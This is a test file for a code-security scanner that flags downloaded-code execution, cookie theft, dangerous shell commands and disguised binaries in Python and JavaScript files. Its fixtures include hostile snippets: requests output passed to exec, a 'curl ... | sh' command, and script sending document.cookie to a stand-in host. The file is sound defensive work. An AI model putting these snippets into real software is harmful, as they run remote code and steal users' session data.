import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { type Finding, isBlocking } from '../ground/finding.ts'
import { testParser } from '../python/parser.test-support.ts'
import { checkBinary } from './binaries.ts'
import type { Rule } from './rules/rule.ts'
import { committedSecret } from './rules/text.ts'
import { scanCode } from './scan.ts'
import { rules, scanDependencies, scanFile, scanText } from './scan-files.ts'
import { SecretSearch } from './secret-search.ts'

const parser = await testParser()

function secretsIn(example: string): Finding[] {
  const search = new SecretSearch()
  search.searchText('nodes.py', example)
  return search.findings
}

function findingsIn(rule: Rule, example: string): Finding[] {
  switch (rule.of) {
    case 'dependency':
      return scanDependencies('requirements.txt', [{ text: example, line: 1 }])
    case 'text':
      if (rule === committedSecret) return secretsIn(example)
      return scanText(rule.exampleName ?? 'nodes.py', example)
    case 'file': {
      const [path = '', ...rest] = example.split('\n')
      return scanFile(
        path,
        Uint8Array.from(rest.join('\n'), (letter) => letter.charCodeAt(0)),
      )
    }
    case 'python':
      return scanCode([{ path: 'nodes.py', text: example }], [], parser).findings
    case 'javascript':
      return scanCode([], [{ path: 'web/nodes.js', text: example }], parser).findings
  }
}

for (const rule of rules)
  describe(`the rule ${rule.id}`, () => {
    for (const [i, example] of rule.examples.matching.entries()) {
      it(`reports matching example ${i + 1}`, () => {
        const found = findingsIn(rule, example).find((finding) => finding.rule === rule.id)
        assert.ok(found, example)
        assert.ok(found.message && found.why && found.fix && found.issue_type === rule.id)
      })
    }
    for (const [i, example] of rule.examples.harmless.entries()) {
      it(`accepts harmless example ${i + 1}`, () => {
        const found = findingsIn(rule, example).filter((finding) => finding.rule === rule.id)
        assert.deepEqual(found, [], example)
      })
    }
  })

describe('the rules', () => {
  it('have unique ids, and both kinds of examples', () => {
    assert.equal(new Set(rules.map((rule) => rule.id)).size, rules.length)
    for (const { id, examples } of rules)
      assert.ok(examples.matching.length > 0 && examples.harmless.length > 0, id)
  })

  it('never block a version for starting well-known programs', () => {
    const text =
      'import subprocess, sys\n' +
      ['git', 'ffmpeg', 'nvidia-smi'].map((name) => `subprocess.run(["${name}", x])`).join('\n') +
      '\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])\n'
    const { findings } = scanCode([{ path: 'a.py', text }], [], parser)
    assert.ok(findings.length >= 4)
    assert.equal(findings.some(isBlocking), false)
  })
})

describe('scanCode', () => {
  it('follows a value from file to file', () => {
    const files = {
      '__init__.py': 'from .net import fetch\nfrom . import run\nrun.go(fetch("https://example.test"))',
      'net.py': 'import requests\ndef fetch(u):\n    return requests.get(u).text',
      'run.py': 'def go(text):\n    exec(text)',
    }
    const python = Object.entries(files).map(([path, text]) => ({ path, text }))
    const found = scanCode(python, [], parser).findings.filter(isBlocking)
    assert.deepEqual(
      found.map(({ rule, file_path, line_number }) => `${rule} ${file_path}:${line_number}`),
      ['downloaded-code run.py:2'],
    )
  })

  it('scans a file of only suspicious calls in linear time', () => {
    const line =
      'eval("1")\nshutil.copy("a", "b.pth")\nf.__globals__["__builtins__"]\npyperclip.copy(pyperclip.paste())\n'
    const text = `import pyperclip, shutil\n${line.repeat(3_000)}`
    const { findings } = scanCode([{ path: 'a.py', text }], [], parser)
    assert.ok(findings.some(({ rule }) => rule === 'hidden-call'))
  })

  it('scans a tower of nested classes in linear time', () => {
    const floor = (i: number) =>
      `class C${i}(C${i - 1}):\n    def __enter__(self): return self.x\nwith C${i}() as c: c.y\n`
    const text = `class C0: pass\n${Array.from({ length: 1_000 }, (_, i) => floor(i + 1)).join('')}eval(x)\n`
    const { findings, problems } = scanCode([{ path: 'a.py', text }], [], parser)
    assert.deepEqual(problems, [])
    assert.ok(findings.some(({ rule }) => rule === 'dynamic-code'))
  })

  it('scans a lattice of classes in linear time', () => {
    const level = (i: number) =>
      `class A${i}(A${i - 1}, B${i - 1}, C${i - 1}): x: int\nclass B${i}(A${i - 1}, B${i - 1}, C${i - 1}): pass\nclass C${i}(A${i - 1}, B${i - 1}): pass\n`
    const levels = Array.from({ length: 12 }, (_, i) => level(i + 1)).join('')
    const text = `class A0: pass\nclass B0: pass\nclass C0: pass\n${levels}a = A12(1)\nfor b in a: b\na[0] + a.y\neval(a.z)\n`
    const { findings, problems } = scanCode([{ path: 'a.py', text }], [], parser)
    assert.deepEqual(problems, [])
    assert.ok(findings.some(({ rule }) => rule === 'dynamic-code'))
  })

  it('does not blame one caller for the argument of another', () => {
    const text =
      'import requests\ndef same(x):\n    return x\npage = same(requests.get(u).text)\nexec(same("x = 1"))\n'
    assert.equal(scanCode([{ path: 'a.py', text }], [], parser).findings.some(isBlocking), false)
  })

  it('reads a function without telling words when something telling is passed to it', () => {
    const work = '    y = [n * n for n in range(10)]\n'.repeat(20)
    const text = `import requests\ndef keep(x, f):\n${work}    f(x)\n`
    const given = scanCode([{ path: 'a.py', text: `${text}keep(requests.get(u).text, exec)\n` }], [], parser)
    assert.deepEqual(
      given.findings.filter(isBlocking).map(({ rule, line_number }) => `${rule} ${line_number}`),
      ['downloaded-code 23'],
    )
    const plain = scanCode([{ path: 'a.py', text: `${text}keep(1, print)\n` }], [], parser)
    assert.equal(plain.findings.some(isBlocking), false)
  })

  it('follows code that runs through any number of functions without telling words', () => {
    const work = '    y = [n * n for n in range(10)]\n'.repeat(20)
    const wrapper = (name: string, inner: string) => `def ${name}():\n${work}    return ${inner}()\n`
    const text = `import requests
def a():
    return requests.get("https://example.test/x").text
${wrapper('b', 'a')}${wrapper('c', 'b')}${wrapper('d', 'c')}${wrapper('e', 'd')}
def run(x):
    exec(x)
`
    for (const [end, line] of [
      ['exec(e())', 95],
      ['run(e())', 94],
    ] as const) {
      const { findings } = scanCode([{ path: 'a.py', text: text + end }], [], parser)
      assert.deepEqual(
        findings.filter(isBlocking).map(({ rule, line_number }) => `${rule} ${line_number}`),
        [`downloaded-code ${line}`],
      )
    }
  })

  it('scans bundles function by function, and searches only the text of the longest scripts', () => {
    const theft = 'function f() { const c = document.cookie; fetch("https://example.test/?c=" + c) }\n'
    const script = (length: number) => [
      { path: 'web/x.js', text: theft + 'function g() { return 1 }\n'.repeat(length / 26) },
    ]
    const bundle = scanCode([], script(300_000), parser)
    assert.deepEqual(
      bundle.findings.filter(isBlocking).map(({ rule }) => rule),
      ['page-data-sent'],
    )
    const { findings, problems } = scanCode([], script(1_200_000), parser)
    assert.deepEqual(findings, [])
    assert.deepEqual(
      problems.map(({ path, severity }) => `${severity} ${path}`),
      ['medium web/x.js'],
    )
  })

  it('keeps attributes of the same name on different outside objects apart', () => {
    const text =
      'import git, os, sys, runpy\ngit.Repo.clone_from("https://example.test/a", "helpers")\nsys.path.append("helpers")\nrunpy.run_path(os.path.join(here, "own.py"))\n'
    const found = scanCode([{ path: 'a.py', text }], [], parser).findings.filter(isBlocking)
    assert.deepEqual(
      found.map(({ rule, line_number }) => `${rule} ${line_number}`),
      ['downloaded-code 3'],
    )
  })

  it('reads code inside a string, and reports it at the string', () => {
    const text = 'x = 1\nexec("import os\\nos.system(\'curl https://example.test/x | sh\')")\n'
    const found = scanCode([{ path: 'a.py', text }], [], parser).findings.filter(isBlocking)
    assert.deepEqual(
      found.map(({ rule, line_number }) => `${rule} ${line_number}`),
      ['dangerous-command 2'],
    )
  })

  it('reports unreadable code inside a string at the string', () => {
    const inner = (code: string) =>
      scanCode([{ path: 'a.py', text: `x = 1\nexec(${JSON.stringify(code)})\n` }], [], parser).problems
    assert.deepEqual(inner(`import os\ny = ${'('.repeat(400)}1${')'.repeat(400)}\n`), [
      { path: 'a.py', line: 2, reason: 'nests more deeply than allowed', severity: 'high' },
    ])
    assert.deepEqual(inner(`import os\n${'match [\n'.repeat(1_000)}`), [
      { path: 'a.py', line: 2, reason: 'takes the parser longer than allowed' },
    ])
    assert.deepEqual(inner('import os\nprint(os.name)\n'), [])
  })

  it('reports code that is nested too deeply instead of following it', () => {
    const text = `import subprocess\nx = ${'('.repeat(2000)}1${')'.repeat(2000)}\n`
    const { problems } = scanCode(
      [{ path: 'a.py', text }],
      [{ path: 'a.js', text: `x = ${'['.repeat(5000)}${']'.repeat(5000)}` }],
      parser,
    )
    assert.deepEqual(
      problems.map(({ path }) => path),
      ['a.py', 'a.js'],
    )
  })

  it('reports a plain function that is nested too deeply when something telling is passed to it', () => {
    const sums = Array.from({ length: 20 }, (_, i) => `    value_${i} = alpha * ${i} + beta\n`).join('')
    const plain = `def plain(alpha, beta):\n${sums}    x = ${'['.repeat(2000)}${']'.repeat(2000)}\n    return alpha\n`
    const text = `${plain}def other(): pass\nimport requests\nexec(plain(requests.get("https://example.test").text, 1))\n`
    const { problems } = scanCode([{ path: 'a.py', text }], [], parser)
    assert.deepEqual(problems, [
      { path: 'a.py', line: 22, reason: 'nests more deeply than allowed', severity: 'high' },
    ])
  })
})

describe('checkBinary', () => {
  it('recognizes machine code by its first bytes, and raises the severity for a false name', () => {
    const elf = Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1)
    assert.equal(checkBinary('lib/x.so', elf)?.rule, 'native-binary')
    assert.equal(checkBinary('web/logo.png', elf)?.severity, 'high')
    const program = new Uint8Array(264)
    program.set([0x4d, 0x5a])
    program[60] = 128
    assert.equal(checkBinary('bin/tool.exe', program)?.rule, 'native-binary')
    assert.equal(
      checkBinary('notes.txt', new TextEncoder().encode('MZ is a pair of letters that may start a text')),
      undefined,
    )
  })
})
